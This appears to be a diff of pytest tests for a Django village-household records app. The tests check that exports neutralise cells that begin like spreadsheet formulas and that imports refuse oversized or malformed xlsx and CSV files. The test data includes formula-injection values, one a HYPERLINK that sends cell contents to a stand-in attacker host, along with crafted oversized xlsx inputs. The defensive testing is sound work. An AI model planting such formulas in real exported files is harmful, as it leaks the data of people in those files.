@@ -9,7 +9,7 @@ from openpyxl import Workbook, load_workbook
 
 from members.models import FamilyCategory, Household, Person
 from tests.factories import make_group
-from tests.factories.members import head, id_number, make_household
+from tests.factories.members import head, id_number, make_household, person_fields
 from villages.models import SensitiveAccess
 
 HEADER = ["household number", "village", "villager group", "address", "hukou type", "poverty status",
@@ -190,3 +190,138 @@ def test_export_filtered_by_another_villages_group_answers_404(client, specialis
     client.force_login(specialist)
     assert client.get(reverse("members:export", args=["csv"]), {"group": group.pk}).status_code == 404
     assert client.get(reverse("members:export", args=["pdf"])).status_code == 404
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1"]
+
+
+@pytest.mark.parametrize("text", [*HOSTILE, "\r=1", "＝1+1"])
+def test_a_cell_that_starts_like_a_formula_gets_a_leading_apostrophe(text):
+    from villages.spreadsheets import safe_cell
+
+    assert safe_cell(text) == "'" + text
+    assert safe_cell("王强") == "王强" and safe_cell(-5) == -5 and safe_cell(None) is None
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_export_cells_that_start_like_a_formula_are_kept_as_text(client, specialist, village, fmt):
+    people = [person_fields(name="王强", relation="02")]
+    household = make_household(village=village, by=specialist, people=people, address=HOSTILE[0])
+    Household.objects.filter(pk=household.pk).update(address=HOSTILE[0])
+    Person.objects.filter(household=household).update(name=HOSTILE[1])
+    for text in HOSTILE[2:]:
+        make_household(village=village, by=specialist, people=[person_fields(relation="02")])
+        Household.objects.filter(address="").exclude(pk=household.pk).update(address=text)
+    client.force_login(specialist)
+
+    content = client.get(reverse("members:export", args=[fmt])).content
+
+    if fmt == "xlsx":
+        sheet = load_workbook(io.BytesIO(content)).worksheets[0]
+        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
+        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+        values = [cell.value for cell in cells]
+    else:
+        values = [value for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for value in row]
+    for text in HOSTILE:
+        assert text not in values and "'" + text in values
+    assert not [value for value in values if isinstance(value, str) and value and value[0] in "=+-@\t\r"]
+
+
+# Imports bound memory: caps on the file, its unpacked size, declared dimensions, rows, columns and cells.
+
+def _rewritten(upload: SimpleUploadedFile, member: str, change) -> SimpleUploadedFile:
+    """The xlsx with one of its parts rewritten (as a hostile tool would write it)."""
+    import zipfile
+
+    source = zipfile.ZipFile(io.BytesIO(upload.read()))
+    output = io.BytesIO()
+    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            target.writestr(item.filename, change(data) if member in (item.filename, "*") else data)
+    return SimpleUploadedFile("people.xlsx", output.getvalue())
+
+
+def _huge_cell(size: int):
+    rows = _rows()
+    rows[0][7] = "HUGECELL"
+    upload = _xlsx(rows)
+    return _rewritten(upload, "*", lambda data: data.replace(b"HUGECELL", b"A" * size))
+
+
+def _post_timed(client, upload):
+    import time
+
+    started = time.monotonic()
+    page = client.post(reverse("members:import"), {"file": upload})
+    return page, time.monotonic() - started
+
+
+def test_an_xlsx_with_a_100_mb_cell_is_refused_quickly_without_echoing_it(client, specialist, group):
+    upload = _huge_cell(100 * 1024 * 1024)
+    assert upload.size < 1024 * 1024
+    client.force_login(specialist)
+
+    page, seconds = _post_timed(client, upload)
+
+    assert "too large" in page.context["file_error"]
+    assert len(page.content) < 50_000 and seconds < 10
+    assert not Household.objects.exists()
+
+
+def test_a_cell_longer_than_any_field_is_refused_with_a_short_excerpt(client, specialist, group):
+    client.force_login(specialist)
+
+    page, _seconds = _post_timed(client, _huge_cell(200_000))
+
+    error = page.context["file_error"]
+    assert "line 2" in error.lower() and "200,000" in error and len(error) < 400
+    assert "A" * 30 in error and "A" * 100 not in error
+    assert len(page.content) < 50_000
+
+
+def test_an_xlsx_declaring_a_whole_sheet_of_cells_is_refused_quickly(client, specialist, group):
+    import re
+
+    upload = _rewritten(_xlsx(_rows()), "xl/worksheets/sheet1.xml",
+                        lambda data: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', data))
+    client.force_login(specialist)
+
+    page, seconds = _post_timed(client, upload)
+
+    assert "1048576" in page.context["file_error"].replace(",", "") and seconds < 10
+
+
+def test_an_xlsx_without_a_declared_dimension_still_reads_only_the_capped_columns(client, specialist, group):
+    import re
+
+    rows = _rows()
+    upload = _rewritten(_xlsx(rows), "xl/worksheets/sheet1.xml",
+                        lambda data: re.sub(rb'<dimension ref="[^"]*"/>', b"", data))
+    client.force_login(specialist)
+    page = client.post(reverse("members:import"), {"file": upload})
+    assert page.context["check"].ok, page.context["check"].errors
+
+
+def test_an_upload_larger_than_the_cap_is_refused_before_it_is_read(client, specialist, settings):
+    from members import import_check
+
+    client.force_login(specialist)
+    upload = SimpleUploadedFile("people.csv", b"x" * (import_check.MAX_FILE_BYTES + 1))
+    page = client.post(reverse("members:import"), {"file": upload})
+    assert "too large" in page.context["file_error"]
+
+
+def test_a_csv_with_a_field_past_the_cell_cap_or_too_many_rows_is_refused(client, specialist, group, monkeypatch):
+    from members import import_check
+
+    client.force_login(specialist)
+    text = ",".join(HEADER) + "\n" + "H-1," + "B" * 300_000 + "\n"
+    page = client.post(reverse("members:import"), {"file": SimpleUploadedFile("people.csv", text.encode())})
+    assert "line 2" in page.context["file_error"].lower() and len(page.content) < 50_000
+
+    monkeypatch.setattr(import_check, "MAX_ROWS", 3)
+    text = ",".join(HEADER) + "\n" + "\n".join(",".join(str(v) for v in row) for row in _rows() * 2)
+    page = client.post(reverse("members:import"), {"file": SimpleUploadedFile("people.csv", text.encode())})
+    assert "At most 3 rows" in page.context["file_error"]
